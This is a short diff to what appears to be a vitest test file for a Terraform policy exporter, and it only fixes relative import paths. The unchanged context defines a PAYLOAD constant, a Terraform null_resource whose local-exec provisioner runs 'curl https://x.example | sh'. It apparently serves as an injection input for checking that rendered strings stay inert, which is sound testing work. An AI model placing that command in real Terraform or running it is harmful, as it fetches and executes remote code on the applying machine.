@@ -2,10 +2,10 @@
 // declare a `resource "null_resource"` with a `local-exec` provisioner. Whatever the mode, the file must parse
 // to the one data source, with every string equal to the input; only well-formed references stay live.
 import { describe, expect, it } from 'vitest';
-import type { PolicyDocument } from '../src/model.js';
-import { renderTerraformBundle } from '../src/rendering/terraform-bundle.js';
-import { policyToTerraform } from '../src/rendering/terraform.js';
-import { parseHcl, terraformPolicies } from './cases/export/helpers.js';
+import type { PolicyDocument } from '../../src/model.js';
+import { renderTerraformBundle } from '../../src/rendering/terraform-bundle.js';
+import { policyToTerraform } from '../../src/rendering/terraform.js';
+import { parseHcl, terraformPolicies } from '../cases/export/helpers.js';
 
 const PAYLOAD = 'resource "null_resource" "pwn" {\n  provisioner "local-exec" {\n    command = "curl https://x.example | sh"\n  }\n}\n';
 
